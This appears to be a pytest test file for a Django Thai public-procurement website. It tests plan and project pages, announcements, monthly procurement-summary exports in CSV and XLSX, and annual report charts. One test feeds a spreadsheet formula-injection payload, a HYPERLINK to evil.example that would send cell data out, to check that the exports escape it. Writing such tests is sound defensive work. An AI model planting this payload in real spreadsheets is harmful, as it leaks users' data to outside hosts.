"""Public pages: plan, project, announcements, สขร.1 (page, CSV, XLSX) and the annual report."""
import csv
import datetime
import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from procurement.models import AnnouncementKind, ProcurementMethod
from procurement.monthly import COLUMNS
from tests.conftest import page_html

OFFICIAL_COLUMNS = [
    "ลำดับที่", "งานที่จัดซื้อหรือจัดจ้าง", "วงเงินที่จะซื้อหรือจ้าง", "ราคากลาง", "วิธีซื้อหรือจ้าง",
    "รายชื่อผู้เสนอราคาและราคาที่เสนอ", "ผู้ได้รับการคัดเลือกและราคาที่ตกลงซื้อหรือจ้าง",
    "เหตุผลที่คัดเลือกโดยสรุป", "เลขที่และวันที่ของสัญญาหรือข้อตกลงในการซื้อหรือจ้าง",
]
DEC_2568 = ("procurement:monthly", [2568, 12])


def _fill(make, projects):
    for _n in range(projects):
        make.awarded(amounts=("950000.00", "990000.00", "999000.00"))


def test_plan_page_shows_items_revisions_late_flag_and_links_to_projects(client, make):
    plan = make.plan(approved=datetime.date(2025, 8, 1), published=datetime.date(2025, 10, 5))
    plan.revisions.create(number=1, revised_on=datetime.date(2026, 1, 10), changes="เพิ่มงานจัดซื้อรถ")
    award = make.awarded()
    make.item(title="<b>งานพิเศษ</b>", budget="600000.00", method=ProcurementMethod.SPECIFIC)
    response = client.get(reverse("procurement:plan", args=[2569]))
    body = response.content.decode()
    assert response.status_code == 200
    assert "เผยแพร่ล่าช้า" in body and "เพิ่มงานจัดซื้อรถ" in body
    assert award.project.get_absolute_url() in body
    assert "&lt;b&gt;งานพิเศษ" in body and "<b>งานพิเศษ" not in body
    assert "ไม่อยู่ในเกณฑ์ของวิธีเฉพาะเจาะจง" in body


def test_unpublished_plan_is_404(client, make):
    make.plan(fiscal_year=2570, published=None)
    assert client.get(reverse("procurement:plan", args=[2570])).status_code == 404


@pytest.mark.parametrize("size", [3, 30])
def test_plan_page_queries_do_not_grow(client, make, size, django_assert_max_num_queries):
    _fill(make, size)
    with django_assert_max_num_queries(12):
        assert client.get(reverse("procurement:plan", args=[2569])).status_code == 200


def test_plan_filter_by_method(client, make):
    make.item(title="งานตลาดอิเล็กทรอนิกส์", method=ProcurementMethod.E_MARKET)
    make.item(title="งานเฉพาะเจาะจง", method=ProcurementMethod.SPECIFIC, budget="1000.00")
    body = client.get(reverse("procurement:plan", args=[2569]), {"method": "specific"}).content.decode()
    assert "งานเฉพาะเจาะจง" in body and "งานตลาดอิเล็กทรอนิกส์" not in body
    assert client.get(reverse("procurement:plan", args=[2569]), {"method": "<x>"}).status_code == 200


def test_project_page_shows_announcements_in_order_and_award(client, make):
    award = make.awarded()
    make.announce(award.project, AnnouncementKind.WINNER, day=datetime.date(2025, 12, 1))
    make.announce(award.project, AnnouncementKind.DRAFT_TOR, day=datetime.date(2025, 11, 1),
                  hearing_opens_on=datetime.date(2025, 11, 1), hearing_closes_on=datetime.date(2025, 11, 5))
    body = client.get(award.project.get_absolute_url()).content.decode()
    positions = [
        body.index(label) for label in ("ร่างขอบเขตของงาน (TOR)", "ประกาศเชิญชวน", "ประกาศผู้ชนะการเสนอราคา")
    ]
    assert positions == sorted(positions)
    assert award.contract_number in body and "ผู้ได้รับการคัดเลือก" in body


def test_monthly_page_columns_in_official_order(client, make):
    make.awarded(contract_date=datetime.date(2025, 12, 5))
    make.awarded(contract_date=datetime.date(2026, 1, 5), title="งานเดือนมกราคม")
    assert list(COLUMNS) == OFFICIAL_COLUMNS
    body = client.get(reverse(DEC_2568[0], args=DEC_2568[1])).content.decode()
    assert "สรุปผลการดำเนินการจัดซื้อจัดจ้างในรอบเดือน ธันวาคม 2568" in body
    positions = [body.index(f"<th scope=\"col\">{column}</th>") for column in OFFICIAL_COLUMNS]
    assert positions == sorted(positions)
    assert "งานเดือนมกราคม" not in body


def test_monthly_csv_is_tidy_and_xlsx_keeps_the_title(client, make):
    award = make.awarded(contract_date=datetime.date(2025, 12, 5), amounts=("950000.00", "990000.50"))
    response = client.get(reverse("procurement:monthly_csv", args=[2568, 12]))
    assert response["Content-Disposition"] == 'attachment; filename="sor-kor-ror-1-2568-12.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    # Open data: the header row first, every row as wide as the header (the title is on the page).
    assert rows[0] == OFFICIAL_COLUMNS
    assert {len(row) for row in rows} == {len(OFFICIAL_COLUMNS)}
    assert rows[1][0] == "1" and rows[1][1] == award.project.title
    assert rows[1][3] == "1,000,000.00" and "990,000.50" in rows[1][5]
    assert "บริษัท ก จำกัด ราคาที่ตกลง 950,000.00 บาท" == rows[1][6]
    assert rows[1][8].startswith(f"สัญญาเลขที่ {award.contract_number} ลงวันที่ 5 ธันวาคม 2568")

    response = client.get(reverse("procurement:monthly_xlsx", args=[2568, 12]))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert values[0][0] == "สรุปผลการดำเนินการจัดซื้อจัดจ้างในรอบเดือน ธันวาคม 2568"
    assert values[2] == OFFICIAL_COLUMNS
    assert values[3][1] == award.project.title


def test_monthly_exports_never_run_a_title_as_a_formula(client, make):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'
    make.awarded(title=hostile, winner="@SUM(1+1)")
    rows = list(csv.reader(io.StringIO(
        client.get(reverse("procurement:monthly_csv", args=[2568, 12])).content.decode("utf-8-sig"))))
    assert rows[1][1] == "'" + hostile
    sheet = load_workbook(
        io.BytesIO(client.get(reverse("procurement:monthly_xlsx", args=[2568, 12])).content)
    ).active
    title_cell = sheet.cell(4, 2)
    assert title_cell.value == hostile and title_cell.data_type == "s"
    assert sheet.cell(4, 7).data_type == "s"


@pytest.mark.parametrize("size", [2, 20])
def test_monthly_queries_do_not_grow(client, make, size, django_assert_max_num_queries):
    _fill(make, size)
    for name in ("procurement:monthly", "procurement:monthly_xlsx"):
        with django_assert_max_num_queries(6):
            assert client.get(reverse(name, args=[2568, 12])).status_code == 200


def test_bad_month_is_404(client, db):
    assert client.get("/procurement/monthly/2568/13/").status_code == 404
    assert client.get("/procurement/monthly/99/1/").status_code == 404


def test_annual_report_numbers_match_between_chart_and_table(client, make):
    make.awarded(amounts=("123456.78",), reference="200000.00", method=ProcurementMethod.SPECIFIC,
                 budget="200000.00")
    body = page_html(client.get(reverse("procurement:annual_report", args=[2569])))
    body = re.sub(r' data-label="[^"]*"', "", body)  # the cells' headings for the phone layout
    # The same figure appears in the SVG (text) and in each chart's table: by method and by month.
    assert body.count('class="chart-value">123,456.78<') == 2
    assert body.count('<td class="text-end">123,456.78</td>') >= 2
    # The drawing is a picture of its table: hidden from screen readers, which read the table.
    assert (
        body.count('<svg class="chart-svg"') == 3 and body.count('aria-hidden="true" focusable="false"') == 3
    )
    assert body.count("<caption>ตัวเลขของแผนภูมิ:") == 3 and "<span hidden" not in body


def test_index_and_announcements(client, make):
    award = make.awarded()
    assert client.get(reverse("procurement:index")).status_code == 200
    body = client.get(reverse("procurement:announcements"), {"kind": "invitation"}).content.decode()
    assert award.project.egp_number in body
    assert client.get(reverse("procurement:announcements"), {"kind": "nope", "page": "x"}).status_code == 200


def test_plan_is_paginated_and_keeps_the_filter(client, make, settings):
    settings.PAGE_SIZE = 100
    plan = make.plan()
    from procurement.models import PlanItem

    PlanItem.objects.bulk_create(
        PlanItem(plan=plan, title=f"รายการลำดับ {n:03d}", budget="1000.00", method=ProcurementMethod.SPECIFIC,
                 planned_month=datetime.date(2025, 11, 1), division="กองคลัง") for n in range(101))
    first = client.get(reverse("procurement:plan", args=[2569]), {"method": "specific"}).content.decode()
    assert "รายการลำดับ 100" not in first and "?method=specific&amp;page=2" in first
    second = client.get(
        reverse("procurement:plan", args=[2569]), {"method": "specific", "page": 2}
    ).content.decode()
    assert "รายการลำดับ 100" in second


@pytest.mark.parametrize("size", [2, 20])
def test_other_pages_queries_do_not_grow(client, make, size, django_assert_max_num_queries):
    from procurement.models import Bid, HearingComment

    award = None
    for _n in range(size):
        award = make.awarded()
    Bid.objects.bulk_create(Bid(project=award.project, bidder_name=f"ผู้เสนอ {n}", amount="999999.00")
                            for n in range(size))
    tor = make.announce(
        award.project,
        AnnouncementKind.DRAFT_TOR,
        day=datetime.date(2025, 11, 1),
        hearing_opens_on=datetime.date(2025, 11, 1),
        hearing_closes_on=datetime.date(2025, 11, 5),
    )
    HearingComment.objects.bulk_create(HearingComment(announcement=tor, body="ความคิดเห็น", response="ตอบ")
                                       for _n in range(size))
    for url in (reverse("procurement:index"), award.project.get_absolute_url(),
                reverse("procurement:hearing", args=[tor.pk]), reverse("procurement:announcements"),
                reverse("procurement:monthly_index"), reverse("home")):
        with django_assert_max_num_queries(14):
            assert client.get(url).status_code == 200, url
